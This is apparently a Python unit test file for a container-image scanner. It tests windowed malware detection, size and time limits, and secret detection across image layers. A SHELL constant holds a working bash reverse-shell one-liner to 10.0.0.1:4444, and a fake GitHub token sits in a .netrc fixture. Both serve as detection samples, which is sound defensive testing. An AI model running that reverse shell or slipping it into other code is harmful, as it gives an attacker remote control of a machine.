"""Files are led past the analyzers within bounds."""

from pathlib import Path

from pratique.analyzers import Options, analyze
from pratique.image import open_image
from pratique.model import FindingKind
from tests.unit.analyzers.context import opened
from tests.unit.image.archives import archive, entry, tar, write

SHELL = b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"


def test_malware_at_the_border_of_two_windows_is_found_once() -> None:
    options = Options(window_bytes=4096, overlap_bytes=256)
    for at in range(3900, 4200, 13):
        facts = analyze(opened({"x.sh": b" " * at + SHELL + b" " * 5000}), options)
        assert [finding.rule for finding in facts.findings if finding.kind is FindingKind.MALWARE] == [
            "reverse-shell-bash"
        ]


def test_file_too_large_to_parse_is_unread() -> None:
    facts = analyze(opened({"var/lib/dpkg/status": b"Package: a\nVersion: 1\n" * 10}), Options(max_whole_bytes=100))
    assert [unread.path for unread in facts.unread] == ["var/lib/dpkg/status"]
    assert facts.packages == ()


def test_file_too_large_to_look_through_is_unread() -> None:
    facts = analyze(opened({"big": b"x" * 200}), Options(max_file_bytes=100))
    assert [unread.path for unread in facts.unread] == ["big"]


def test_time_that_is_up_is_unread() -> None:
    facts = analyze(opened({"a": b"x", "b": SHELL}), Options(deadline_s=-1))
    assert "time is up" in facts.unread[0].reason
    assert "2 files are left" in facts.unread[0].reason


def test_findings_and_packages_are_bounded() -> None:
    status = b"".join(b"Package: p%d\nVersion: 1\n\n" % number for number in range(50))
    files = {**{f"{number}.sh": SHELL for number in range(50)}, "var/lib/dpkg/status": status}
    facts = analyze(opened(files), Options(max_findings=5, max_packages=7, max_unread=3))
    assert len(facts.findings) == 5
    assert len(facts.packages) == 7
    assert 0 < len(facts.unread) <= 3


def test_names_that_are_not_text_become_printable() -> None:
    facts = analyze(opened({"\udcff\x1b[31m.sh": SHELL}))
    (finding,) = [finding for finding in facts.findings if finding.kind is FindingKind.MALWARE]
    assert finding.path == "\\xff\\x1b[31m.sh"


def test_hard_limits_do_not_hide_what_could_not_be_placed() -> None:
    assert [unread.path for unread in analyze(opened({"../x": b"x"})).unread] == ["../x"]


def test_secret_that_a_later_layer_removes_is_found_and_malware_is_not(tmp_path: Path) -> None:
    token = "ghp_" + "Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv1Wx2"
    lower = tar(entry("root/.netrc", f"password {token}".encode()), entry("x.sh", SHELL), entry("d/e", token.encode()))
    upper = tar(entry("root/.netrc", b"empty"), entry(".wh.x.sh"), entry("d"))
    with open_image(write(archive([lower, upper], User="app"), tmp_path)) as image:
        facts = analyze(image)
    assert [(finding.rule, finding.path) for finding in facts.findings] == [
        ("github-token", "root/.netrc"),
        ("github-token", "d/e"),
    ]
    assert all("a later layer removes it" in finding.evidence for finding in facts.findings)
    assert facts.files == 2


def test_secret_that_stays_is_told_once(tmp_path: Path) -> None:
    token = b"ghp_" + b"Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv1Wx2"
    layers = [tar(entry("a", token)), tar(entry("a", b"more\n" + token))]
    with open_image(write(archive(layers, User="app"), tmp_path)) as image:
        (finding,) = analyze(image).findings
    assert "removes" not in finding.evidence
